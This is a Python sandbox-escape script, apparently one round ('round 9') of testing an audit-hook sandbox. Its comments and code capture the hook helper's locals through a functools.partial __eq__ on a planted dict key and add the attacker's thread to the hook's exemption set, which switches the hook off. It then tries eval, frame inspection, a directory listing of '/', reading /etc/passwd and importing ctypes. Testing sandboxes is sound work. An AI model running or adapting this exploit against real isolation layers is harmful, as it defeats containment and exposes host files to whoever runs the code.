# held: 5
# Layer 2 probe (round 9): the eighth review's fix compares the pins outside the hook's
# re-entrancy exemption, so a Python __eq__ of a planted key runs under the hook and
# sys._getframe is refused there. But __eq__ may be a C callable (functools.partial is no
# descriptor, so the slot calls it as is): then no Python frame is pushed and builtins.locals()
# returns the locals of raised_by(), the hook's helper, free variables included: the `inside`
# set. Adding our thread to it switches the hook off for good.
import collections
real_import = [c.cell_contents for c in __import__.__closure__
               if type(c.cell_contents).__name__ == "builtin_function_or_method"
               and c.cell_contents.__name__ == "__import__"][0]
B = real_import("builtins")
functools = real_import("functools")
_thread = real_import("_thread")
store = []

class Key:
    def __hash__(self):
        return hash("eval")
    __eq__ = functools.partial(next, map(store.append, iter(B.locals, object())))

k = Key()
collections.__dict__[k] = 1
try:
    collections.namedtuple("P", "a b")
except BaseException as e:
    print("namedtuple:", type(e).__name__, e)
del collections.__dict__[k]
hooked = [d for d in store if isinstance(d, dict) and "inside" in d]
print("locals captured:", [sorted(d)[:12] for d in store][:2])
if hooked:
    hooked[0]["inside"].add(_thread.get_ident())
    print("ESCAPED hook's `inside` set reached and our thread added")
for label, f in [
    ("eval", lambda: B.eval("6*7")),
    ("sys._getframe -> zygote run_code locals", lambda: sorted(real_import("sys")._getframe(0).f_back.f_back.f_locals)[:10]),
    ("os.listdir /", lambda: real_import("os").listdir("/")),
    ("open /etc/passwd", lambda: B.open("/etc/passwd").read()[:60]),
    ("import ctypes", lambda: real_import("ctypes")),
]:
    try:
        print("ESCAPED", label, f())
    except BaseException as e:
        print("HELD", label, type(e).__name__, e)
